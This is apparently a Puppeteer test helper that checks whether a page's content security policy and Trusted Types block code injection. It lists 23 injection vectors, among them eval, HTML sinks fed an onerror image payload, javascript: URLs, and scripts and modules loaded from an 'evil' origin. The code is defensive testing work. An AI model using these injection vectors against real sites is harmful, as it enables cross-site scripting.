import type { Page } from 'puppeteer-core';

/** Path of the last request to the other server: what the attempts have asked there was asked before. */
export const lastPath = '/last';

/**
 * Tries to run a text as code in one of our own pages, in every way that there is, and says which of them worked, once
 * `expected` or more did. Runs in turns of its own, since what a debugger calls is at times exempt from a page's policy.
 */
export async function codeThatRan(page: Page, evilOrigin: string, expected = 0): Promise<readonly string[]> {
  await page.evaluate((evil) => {
    const scope = globalThis as unknown as { ran: string[]; tried: number };
    scope.ran = [];
    scope.tried = 0;
    const codeFor = (name: string): string => `globalThis.ran.push(${JSON.stringify(name)})`;
    const made = <Tag extends keyof HTMLElementTagNameMap>(tag: Tag): HTMLElementTagNameMap[Tag] =>
      document.body.appendChild(document.createElement(tag));
    const image = (name: string): string => `<img src=x onerror='${codeFor(name)}'>`;
    const attempts: Record<string, (name: string) => unknown> = {
      // biome-ignore lint/security/noGlobalEval: that it is refused is what is tested
      eval: (name) => globalThis.eval(codeFor(name)),
      'new Function': (name) => new Function(codeFor(name))(),
      'setTimeout of a text': (name) => setTimeout(codeFor(name) as never, 0),
      'a script element': (name) => {
        made('script').textContent = codeFor(name);
      },
      'a script element’s text': (name) => made('script').append(codeFor(name)),
      'a script of another server': () => {
        made('script').src = `${evil}/script.js`;
      },
      'a script of another server, by attribute': () =>
        made('script').setAttribute('src', `${evil}/script.js`),
      'a module of another server': () => import(/* @vite-ignore */ `${evil}/module.js`),
      'a module from a text': (name) =>
        import(/* @vite-ignore */ `data:text/javascript,${encodeURIComponent(codeFor(name))}`),
      innerHTML: (name) => {
        made('div').innerHTML = image(name);
      },
      outerHTML: (name) => {
        made('div').outerHTML = image(name);
      },
      insertAdjacentHTML: (name) => made('div').insertAdjacentHTML('beforeend', image(name)),
      setHTMLUnsafe: (name) => made('div').setHTMLUnsafe(image(name)),
      'document.write': (name) => document.write(image(name)),
      createContextualFragment: (name) =>
        made('div').append(document.createRange().createContextualFragment(image(name))),
      DOMParser: (name) => made('div').append(new DOMParser().parseFromString(image(name), 'text/html').body),
      'an event handler': (name) => {
        const button = made('button');
        button.setAttribute('onclick', codeFor(name));
        button.click();
      },
      'a javascript: link': (name) => {
        const link = made('a');
        link.href = `javascript:${codeFor(name)}`;
        link.click();
      },
      'a frame’s document': (name) => {
        made('iframe').srcdoc = `<script>parent.${codeFor(name)}</script>`;
      },
      'a javascript: frame': (name) => {
        made('iframe').src = `javascript:parent.${codeFor(name)}`;
      },
      'a worker from a text': (name) =>
        new Worker(URL.createObjectURL(new Blob([codeFor(name), `postMessage(1)`]))).addEventListener(
          'message',
          () => scope.ran.push(name),
        ),
      'a policy of its own': (name) => {
        const { trustedTypes } = globalThis as unknown as {
          trustedTypes: { createPolicy(id: string, rules: object): unknown };
        };
        trustedTypes.createPolicy('evil', { createHTML: (text: string) => text });
        scope.ran.push(name);
      },
      'a default policy': (name) => {
        const { trustedTypes } = globalThis as unknown as {
          trustedTypes: { createPolicy(id: string, rules: object): unknown };
        };
        trustedTypes.createPolicy('default', { createHTML: (text: string) => text });
        scope.ran.push(name);
      },
    };
    for (const [name, attempt] of Object.entries(attempts)) {
      setTimeout(() => {
        try {
          Promise.resolve(attempt(name)).catch(() => undefined);
        } catch {
          // refused, as it should be
        }
        scope.tried++;
      });
    }
  }, evilOrigin);
  await page.waitForFunction(() => Reflect.get(globalThis, 'tried') === 23);
  await page.evaluate(comeAfterAll, `${evilOrigin}${lastPath}`);
  await page.waitForFunction((count) => Reflect.get(globalThis, 'ran').length >= count, {}, expected);
  return page.evaluate(() => Reflect.get(globalThis, 'ran') as string[]);
}

/** Does what is allowed in every way that an attempt may still be under way in, and is through when that is. */
async function comeAfterAll(address: string): Promise<void> {
  const comes = (element: HTMLElement, type: 'load' | 'error'): Promise<void> =>
    new Promise((resolve) => {
      element.addEventListener(type, () => resolve(), { once: true });
      document.body.append(element);
    });
  const frame = document.createElement('iframe');
  const image = document.createElement('img');
  image.src = `missing-${Math.random()}.png`;
  await Promise.all([
    comes(frame, 'load'),
    comes(image, 'error'),
    fetch(address).catch(() => undefined), // that it was sent is enough
    new Promise((resolve) => setTimeout(resolve)),
  ]);
}
